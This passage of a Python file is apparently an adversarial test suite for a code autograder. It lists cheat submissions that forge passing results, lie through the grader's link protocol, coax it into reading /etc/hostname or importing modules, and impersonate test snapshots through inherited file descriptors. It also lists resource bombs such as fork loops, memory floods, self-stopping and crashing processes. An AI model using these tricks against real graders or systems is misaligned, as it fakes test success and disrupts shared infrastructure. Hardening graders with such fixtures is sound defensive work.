        "while True: reply(stream, 'o', 'stdout', 'x' * 30_000)",
    ),
    _lie(
        "link-forged-result",
        "A display that is a result with all points, and an error that is none.",
        "for kind in ('execute_result', 'error', 'display_data'):\n"
        "    node = ['d', 't', 'output', 'output', ['d', 'output_type', kind,\n"
        "            'data', ['d', 'text/plain', '4.0'], 'metadata', ['d']]]\n"
        "    reply(stream, 'm', node)\n"
        "reply(stream, 'v', [], ['t', 1], ['l'])",
    ),
    _lie(
        "link-yes-to-everything",
        "Every name is a handle, every call gives one, every question is answered yes.",
        "if operation == 'name': value = ['t', handle()]\n"
        "elif operation == 'names': value = ['l']\n"
        "elif operation in ('call', 'get'): value = handle()\n"
        "elif parts[0] in ('sub', 'abs', 'float'): value = 0.0\n"
        "else: value = True\n"
        "reply(stream, 'v', [], value, ['l'])",
    ),
    _lie(
        "link-polite-exit",
        "Errors that end a process politely are raised in the checker.",
        "names = ['SystemExit', 'KeyboardInterrupt', 'GeneratorExit']\n"
        "name = 'builtins.' + names[len(parts[0]) % 3]\n"
        "reply(stream, 'e', [], [['X', name], ['t', 0], '', None], ['l'])",
    ),
    _lie(
        "link-error-that-reads-files",
        "A SyntaxError names a file and line, which its traceback shows.",
        "place = ['t', '/etc/hostname', 1, 1, 'text']\n"
        "error = [['X', 'builtins.SyntaxError'], ['t', 'no', place], 'no', None]\n"
        "reply(stream, 'e', [], error, ['l'])",
    ),
    _lie(
        "link-error-class-with-a-past",
        "A class of errors made of bases that do not go together, with an odd name.",
        "kind = ['x', 0, 'Incorrect', [['X', 'builtins.OSError'],\n"
        "        ['X', 'builtins.SystemExit'], ['X', 'builtins.KeyError']]]\n"
        "reply(stream, 'e', [], [kind, ['t', 'quagga'], 'quagga', 0], ['l'])",
        held=True,
    ),
    _lie(
        "link-module-with-effects",
        "A module's name makes the checker import it, whatever that does.",
        "module = ['M', 'test.autotest', handle()]\n"
        "reply(stream, 'v', [], ['t', module], ['l'])",
    ),
    Cheat(
        "snapshots-served-by-hand",
        "One process says it is every snapshot, and answers all tests, one by one.",
        """
import gc, json, os, socket, stat
from autograder.runner.inside.link.server import LinkServer
def frame(message):
    body = json.dumps(message).encode()
    return b"AGR1" + len(body).to_bytes(4, "big") + body
pipes = [n for n in range(3, 64) if os.path.exists(f"/proc/self/fd/{n}")
         and stat.S_ISFIFO(os.fstat(n).st_mode)]
sockets = [n for n in range(3, 64) if os.path.exists(f"/proc/self/fd/{n}")
           and stat.S_ISSOCK(os.fstat(n).st_mode)]
end, snapshot = frame({"t": "done", "passed": True}), None
me = frame({"t": "snapshot", "pid": os.getpid()})
print("armed", flush=True)
for _ in range(10):
    for pipe in pipes: os.write(pipe, end + me)
for pipe in pipes: os.write(pipe, end)
job, seen = socket.socket(fileno=os.dup(sockets[0])), []
while True:
    data, links, _, _ = socket.recv_fds(job, 65536, 8)
    for link in links:
        names = {name: lambda *a: seen.append(a) or seen for name in
                 "scale rms tally share greet twice part sign cube root".split()}
        LinkServer(link, names).serve()
        print(seen)
    if not data: break
""",
        at="scale",
        control="runs",
    ),
]

# ---------------------------------------------------------- bombs thrown at the grader


def _bomb(name: str, tries: str, code: str, at: str = "tally") -> Cheat:
    return Cheat(name, tries, code, at=at, control="runs")


_BOMBS = [
    _bomb(
        "bomb-nested-list",
        "An answer nested deeper than any parser's stack.",
        """
def tally(words):
    nest = []
    for _ in range(200_000): nest = [nest]
    return nest
""",
    ),
    _bomb(
        "bomb-cyclic-list",
        "An answer that contains itself never ends.",
        """
def tally(words):
    ring = []
    ring.append(ring)
    return {"a": ring, "b": ring}
""",
    ),
    _bomb(
        "bomb-huge-int",
        "Writing and reading an int of millions of digits takes quadratic time.",
        "def tally(words): return {'a': 1 << 30_000_000}",
    ),
    _bomb(
        "bomb-hash-collisions",
        "Keys with one hash make a dict quadratic where it is rebuilt.",
        """
def tally(words): return dict.fromkeys(k * (2**61 - 1) for k in range(1, 30_000))
""",
    ),
    _bomb(
        "bomb-nan-keys",
        "Keys that are not equal to themselves, and -0.0 beside 0.",
        "def tally(words): return {float('nan'): 1, float('-nan'): 2, -0.0: 0, 0: 1}",
    ),
    _bomb(
        "bomb-long-string",
        "An answer of 200 MB on one line.",
        "def greet(name): return 'x' * 200_000_000",
        "greet",
    ),
    _bomb(
        "bomb-many-small-parts",
        "Ten million small objects cost far more memory rebuilt than sent.",
        "def tally(words): return [[]] * 10_000_000",
    ),
    _bomb(
        "bomb-broadcast-array",
        "An array of 8 bytes that claims eight terabytes.",
        "def rms(x): return np.broadcast_to(0.0, (10**6, 10**6))",
        "rms",
    ),
    _bomb(
        "bomb-array-too-large",
        "An array over any cap, of a gigabyte if memory allows.",
        "def rms(x): return np.zeros(2**26)",
        "rms",
    ),
    _bomb(
        "bomb-odd-dtypes",
        "Arrays of objects, records, dates and texts, one inside another.",
        """
kinds = [np.array([print, {}], dtype=object), np.zeros(3, "i4,(2,3)f8,O"),
         np.array(["NaT"], "M8[ns]"), np.zeros(1, "U100000"), np.zeros((0, 10**9)),
         np.float128(1), np.zeros(1, "V7"), np.array(3 + 4j)]
turn = iter(kinds)
def rms(x): return next(turn)
def tally(words): return {"a": kinds}
""",
        "rms",
    ),
    _bomb(
        "bomb-lone-surrogates",
        "Text that no encoding can hold, and every control character.",
        "def greet(name): return '\\ud800\\0' + ''.join(map(chr, range(32)))",
        "greet",
    ),
    _bomb(
        "bomb-endless-repr",
        "An object is asked for its repr when a test's message is made.",
        """
class Endless:
    def __repr__(self):
        while True: pass
    __str__ = __format__ = __bool__ = __len__ = __repr__
def tally(words): return Endless()
""",
    ),
    _bomb(
        "bomb-endless-iterator",
        "A test that goes through the answer never comes to its end.",
        """
class Endless(dict):
    def __iter__(self):
        while True: yield "a"
    def __len__(self): return 2**60
    def keys(self): return iter(self)
    items = values = keys
def tally(words): return Endless()
def sign(x): return iter(int, 1)
""",
    ),
    _bomb(
        "bomb-error-of-100-mb",
        "The message of an error is as long as an answer may not be.",
        "def tally(words): raise ValueError('x' * 100_000_000)",
    ),
    _bomb(
        "bomb-error-chain",
        "Thousands of errors, each the cause of the next, and one its own cause.",
        """
def tally(words):
    error = None
    for _ in range(3000):
        new = ValueError("x")
        new.__cause__ = error
        error = new
    raise error
def greet(name):
    error = ValueError()
    error.__cause__ = error.__context__ = error
    raise error
""",
    ),
    _bomb(
        "bomb-recursion-in-a-test",
        "Answer and callback call each other until a stack is used up.",
        "def twice(f, x):\n    while True: x = twice(f, f(x))",
        "twice",
    ),
    _bomb(
        "bomb-callback-flood",
        "The tested function calls the test's function without end.",
        "def twice(f, x):\n    while True: f(0)",
        "twice",
    ),
    _bomb(
        "bomb-handles-without-end",
        "Each answer is an object that the test's side has to keep.",
        """
def twice(f, x):
    kept = [type("X", (), {})() for _ in range(100_000)]
    try: f(kept)
    except Exception: pass
    return kept
""",
        "twice",
    ),
    _bomb(
        "answer-that-never-comes",
        "The tested function waits for ever, and no interrupt reaches it.",
        """
import signal
def rms(x):
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    signal.pause()
""",
        "rms",
    ),
    _bomb(
        "answer-that-spins",
        "The tested function burns time for ever.",
        "def rms(x):\n    while True:\n        try:\n            while True: pass\n"
        "        except BaseException: pass",
        "rms",
    ),
    _bomb(
        "answer-stopped",
        "The tested process stops itself.",
        "import os, signal\ndef rms(x): os.kill(os.getpid(), signal.SIGSTOP)",
        "rms",
    ),
    _bomb(
        "answer-by-two",
        "The tested function forks: both copies return, and two answers arrive.",
        "import os\ndef rms(x):\n    os.fork(); os.fork()\n    return 0.0",
        "rms",
    ),
    _bomb(
        "answer-by-a-child-that-stays",
        "The parent ends, and its child goes on to speak to the test.",
        """
import os
def rms(x):
    if os.fork(): os._exit(0)
    return 3.5355339059327378
""",
        "rms",
    ),
    _bomb(
        "answer-with-all-doors-closed",
        "The tested function closes every descriptor and goes on.",
        "import os\ndef rms(x):\n    os.closerange(0, 1024)\n    return 0.0",
        "rms",
    ),
    _bomb(
        "answer-and-crash",
        "The tested function ends its process by a wild pointer.",
        "import ctypes\ndef rms(x): ctypes.string_at(0)",
        "rms",
    ),
    _bomb(
        "memory-eaten-in-a-test",
        "The tested function allocates until it is stopped.",
        "def rms(x):\n    kept = []\n    while len(kept) < 3000: "
        "kept.append(bytearray(2**20))",
        "rms",
    ),
    _bomb(
        "forks-in-a-test",
        "The tested function starts processes that wait.",
        """
import os, time
def rms(x):
    for _ in range(300):
        if os.fork() == 0:
            time.sleep(20); os._exit(0)
""",
        "rms",
    ),
]

CHEATS = [
    *_OBJECTS,
    *_NAMES,
    *_PATCHES,
    *_FRAMES,
    *_SHELL,
    *_LEAKS,
    *_LIES,
    *_BOMBS,
]
